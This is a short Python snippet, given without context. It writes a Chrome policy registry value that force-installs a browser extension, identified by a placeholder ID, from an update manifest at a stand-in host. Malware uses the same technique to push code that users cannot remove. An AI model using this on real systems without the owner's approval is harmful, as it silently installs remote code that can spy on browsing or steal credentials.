import os, json, winreg
k = winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\Policies\Google\Chrome\ExtensionInstallForcelist")
winreg.SetValueEx(k, "1", 0, winreg.REG_SZ, "abcdefghijklmnopabcdefghijklmnop;https://files.invalid/u.xml")
